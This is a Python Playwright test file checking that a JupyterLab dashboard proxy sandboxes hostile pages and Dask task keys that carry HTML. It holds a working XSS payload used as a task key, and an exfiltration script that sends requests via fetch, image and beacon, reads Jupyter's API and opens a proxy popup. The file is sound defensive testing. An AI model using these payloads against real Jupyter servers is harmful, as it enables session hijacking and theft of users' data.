"""A dashboard is hostile: its pages must never act as the user, wherever the Lab shows them.

A page served by any process on a loopback port (another user's, on a shared login node), and
Dask's own Exceptions plot, which renders task keys as HTML, are opened the three ways a user
meets proxied content (Dask's page is what a plain scheduler's pane is with dashdock's plugin
turned off or refused, as here; with it, the pane is drawn by dashdock and keys are text:
test_ui_hostile_keys.py): a link opened as a browser tab, a pane, and a plot under a notebook cell.
Lab runs under a base URL, as on JupyterHub. What each attack achieved is read from the page, and
what matters is checked on the server too: no kernel started, no file written.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from distributed import Client, LocalCluster
from helpers import pane, pane_frame, ready_spare
from hostile import HostileDashboard, Listener
from lab import Lab, open_lab, screenshot, start_lab, stop_lab
from playwright.sync_api import Browser, Frame, Page, expect


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    # Under a base URL, as on JupyterHub; plain schedulers keep Dask's own pages.
    options = ["--DashdockApp.install_on_url_schedulers=False"]
    server = start_lab(tmp_path_factory.mktemp("lab"), "/user/alice/", options)
    yield server
    stop_lab(server)


# What Dask's Exceptions plot renders unescaped, as any client of a shared scheduler may submit it.
INJECTION = "<img src=x onerror=window.__injected=1;top.__x=1>"


@pytest.fixture
def kernel(lab: Lab) -> Iterator[str]:
    """A running kernel of the user's: what a hostile page would most like to run code in."""
    started: Any = lab.api("api/kernels", "POST", {"name": "python3"})
    yield started["id"]
    lab.api(f"api/kernels/{started['id']}", "DELETE")


@pytest.fixture
def hostile(lab: Lab, kernel: str) -> Iterator[HostileDashboard]:
    dashboard = HostileDashboard(lab.base_url, kernel)
    yield dashboard
    dashboard.close()


def _attacks(target: Page | Frame) -> dict[str, Any]:
    target.wait_for_function("() => window.__attacksDone === true", timeout=45_000)
    return target.evaluate("() => window.__attacks")


def _assert_contained(attacks: dict[str, Any], lab: Lab, kernel: str, framed: bool) -> None:
    """The page ran (its script reported), but as nobody: an opaque origin without the user's session."""
    assert attacks["origin"] == "null", attacks
    assert str(attacks["cookie"]).startswith("blocked"), attacks  # no _xsrf, no login cookie
    assert str(attacks["storage"]).startswith("blocked"), attacks
    assert attacks["contents"] != 200, attacks
    assert attacks["createKernel"] != 201, attacks
    assert attacks["kernelSocket"] != "sent code", attacks
    assert str(attacks["serviceWorker"]).startswith("blocked"), attacks
    if framed:
        for reach in ("labDocument", "topDocument", "labWindow"):
            assert str(attacks[reach]).startswith("blocked"), attacks
    # Checked on the server: the user's kernels and files are as they were.
    kernels: Any = lab.api("api/kernels")
    assert [item["id"] for item in kernels] == [kernel]
    listing: Any = lab.api("api/contents")
    names = {item["name"] for item in listing["content"]}
    assert "pwned-by-kernel.txt" not in names and not any(name.startswith("untitled") for name in names)


def _assert_lab_untouched(page: Page, lab: Lab) -> None:
    assert page.evaluate("() => window.__pwned === undefined && window.__x === undefined")
    assert page.url.startswith(f"{lab.url}lab")
    scopes = page.evaluate("() => navigator.serviceWorker.getRegistrations().then(r => r.map(x => x.scope))")
    assert scopes == []


def _open_plot(page: Page, source: str, path: str, name: str) -> Frame:
    args = json.dumps({"source": source, "path": path, "name": name})
    page.evaluate(f"() => window.jupyterapp.commands.execute('dashdock:open-plot', {args})")
    expect(pane(page, name)).to_be_visible()
    return pane_frame(page, name)


def test_a_hostile_page_opened_from_a_link_cannot_act_as_the_user(
    browser: Browser, lab: Lab, kernel: str, hostile: HostileDashboard
) -> None:
    page = open_lab(browser, lab, "hostile-link")  # signed in: the browser holds Jupyter's cookies
    tab = page.context.new_page()
    tab.goto(f"{lab.url}dashdock/proxy/127.0.0.1:{hostile.port}/individual-evil")
    assert f"{lab.base_url}dashdock/view/127.0.0.1:{hostile.port}/" in tab.url
    _assert_contained(_attacks(tab), lab, kernel, framed=False)
    _assert_lab_untouched(page, lab)
    # The page asked for its service worker script; the proxy never fetched it.
    assert not any(path.endswith("sw.js") for path, _ in hostile.requests)


def test_a_hostile_source_in_a_pane_cannot_act_as_the_user(
    browser: Browser, lab: Lab, kernel: str, hostile: HostileDashboard
) -> None:
    source: Any = lab.api("dashdock/api/sources", "POST", {"url": hostile.url})
    page = open_lab(browser, lab, "hostile-pane")
    frame = _open_plot(page, source["id"], "/individual-evil", "Evil")
    _assert_contained(_attacks(frame), lab, kernel, framed=True)
    _assert_lab_untouched(page, lab)
    screenshot(page, "hostile-pane-contained")
    # Restored with the layout at the next Lab load, it is just as contained.
    page.reload()
    restored = pane_frame(page, "Evil")
    _assert_contained(_attacks(restored), lab, kernel, framed=True)
    _assert_lab_untouched(page, lab)
    page.close()
    lab.api(f"dashdock/api/sources/{source['id']}", "DELETE")


def test_a_hostile_bokeh_page_shown_in_a_spare_frame_cannot_act_as_the_user(
    browser: Browser, lab: Lab, kernel: str, hostile: HostileDashboard
) -> None:
    """The second pane of a source draws in a spare frame (panes/spares.ts), handed its page by the
    Lab rather than loading it: a hostile page shown that way is as contained as one loaded."""
    source: Any = lab.api("dashdock/api/sources", "POST", {"url": hostile.url})
    page = open_lab(browser, lab, "hostile-spare")
    _attacks(_open_plot(page, source["id"], "/individual-evil", "Evil"))
    spare = ready_spare(page)
    frame = _open_plot(page, source["id"], "/individual-evil-bokeh", "Evil Bokeh")
    attacks = _attacks(frame)
    assert frame.evaluate("() => window.__spareMark") == "the spare"  # shown in the spare, not loaded
    assert frame == spare
    _assert_contained(attacks, lab, kernel, framed=True)
    _assert_lab_untouched(page, lab)
    # It called itself a ready spare: the Lab's next spare is a frame of its own, and the hostile
    # page stays in its pane.
    assert ready_spare(page).evaluate("() => window.__attacks === undefined")
    assert pane_frame(page, "Evil Bokeh").evaluate("() => window.__attacksDone === true")
    page.close()
    lab.api(f"dashdock/api/sources/{source['id']}", "DELETE")


def test_a_hostile_plot_under_a_notebook_cell_cannot_act_as_the_user(
    browser: Browser, lab: Lab, kernel: str, hostile: HostileDashboard
) -> None:
    bundle = {
        "application/vnd.dashdock.plot+json": {
            "version": 1,
            "dashboard": hostile.url,
            "path": "/individual-evil",
            "title": "Evil",
            "height": 300,
            "kernel_id": None,
        },
        "text/plain": "a plot",
    }
    code = f"from IPython.display import display\ndisplay({bundle!r}, raw=True)"
    lab.write_notebook("hostile.ipynb", [code])
    page = open_lab(browser, lab, "hostile-output")
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:open', {path: 'hostile.ipynb'})")
    page.wait_for_selector(
        ".jp-NotebookPanel .jp-Notebook-ExecutionIndicator[data-status='idle']", timeout=60_000
    )
    page.evaluate("() => window.jupyterapp.commands.execute('notebook:run-all-cells')")
    handle = page.locator(".jp-dashdock-InlinePlot iframe").element_handle(timeout=60_000)
    frame = handle.content_frame() if handle else None
    assert frame is not None
    # Two kernels now: the notebook's and the one under attack.
    attacks = _attacks(frame)
    assert attacks["origin"] == "null" and attacks["kernelSocket"] != "sent code", attacks
    for name in ("cookie", "storage", "labDocument", "topDocument", "labWindow", "serviceWorker"):
        assert str(attacks[name]).startswith("blocked"), attacks
    assert attacks["contents"] != 200 and attacks["createKernel"] != 201, attacks
    _assert_lab_untouched(page, lab)
    listing: Any = lab.api("api/contents")
    assert "pwned-by-kernel.txt" not in {item["name"] for item in listing["content"]}


def test_a_task_key_rendered_by_daskss_exceptions_plot_cannot_reach_the_lab(
    browser: Browser, lab: Lab
) -> None:
    cluster = LocalCluster(
        n_workers=1,
        threads_per_worker=1,
        processes=False,
        protocol="tcp",
        host="127.0.0.1",
        dashboard_address="127.0.0.1:0",
    )
    client = Client(cluster)
    try:
        future = client.submit(_fail, INJECTION, key=INJECTION)
        assert future.exception(timeout=30) is not None
        source: Any = lab.api("dashdock/api/sources", "POST", {"url": cluster.dashboard_link})
        page = open_lab(browser, lab, "exceptions")
        frame = _open_plot(page, source["id"], "/individual-exceptions", "Exceptions")
        # The injection is live inside the plot (Dask renders it as HTML): the test can fail...
        frame.wait_for_function("() => window.__injected === 1", timeout=45_000)
        # ...but the script it ran stayed in the sandbox.
        assert page.evaluate("() => window.__x === undefined")
        screenshot(page, "exceptions-injection-contained")
        page.close()
    finally:
        client.close()
        cluster.close()


def _fail(message: str) -> None:
    raise ValueError(message)


def _exfiltration(listener: int, other: int) -> str:
    """A task key that, rendered by the Exceptions plot, sends what it can: to a loopback listener
    (fetch, a picture, a beacon), to Jupyter's API, and by a popup on another dashboard's proxy
    link, which would have the server fetch it with the user's session. It counts the requests the
    page's policy blocked, so the test waits for them rather than for time."""
    script = (
        "document.addEventListener('securitypolicyviolation',"
        "e=>{window.__blocked=(window.__blocked||0)+1});"
        f"fetch('http://127.0.0.1:{listener}/fetch').catch(()=>0);"
        f"(new Image).src='http://127.0.0.1:{listener}/image';"
        f"navigator.sendBeacon('http://127.0.0.1:{listener}/beacon');"
        "fetch(location.pathname.split('/dashdock/')[0]+'/api/contents').catch(()=>0);"
        "window.open(location.pathname.split('/dashdock/')[0]"
        f"+'/dashdock/proxy/127.0.0.1:{other}/status');"
        "window.__sent=1"
    )
    return f'<img src=x onerror="{script}">'


def test_a_task_key_in_the_exceptions_pane_can_send_nothing_out_nor_open_another_dashboard(
    browser: Browser, lab: Lab
) -> None:
    listener, other = Listener(), Listener()
    cluster = LocalCluster(
        n_workers=1,
        threads_per_worker=1,
        processes=False,
        protocol="tcp",
        host="127.0.0.1",
        dashboard_address="127.0.0.1:0",
    )
    client = Client(cluster)
    try:
        key = _exfiltration(listener.port, other.port)
        assert client.submit(_fail, "stolen", key=key).exception(timeout=30) is not None
        source: Any = lab.api("dashdock/api/sources", "POST", {"url": cluster.dashboard_link})
        page = open_lab(browser, lab, "exceptions-exfiltration")
        with page.context.expect_page() as opened:
            frame = _open_plot(page, source["id"], "/individual-exceptions", "Exceptions")
            frame.wait_for_function("() => window.__sent === 1", timeout=45_000)  # the script ran
        popup = opened.value
        # The popup asks first; nothing reached the other dashboard.
        expect(popup.get_by_text(f"Open the dashboard at 127.0.0.1:{other.port}?")).to_be_visible()
        # fetch, picture, beacon and Jupyter's API: each blocked by the page's policy.
        frame.wait_for_function("() => (window.__blocked || 0) >= 4", timeout=45_000)
        assert listener.requests == [] and other.requests == []
        screenshot(page, "exceptions-exfiltration-blocked")
        page.close()
    finally:
        client.close()
        cluster.close()
        listener.close()
        other.close()
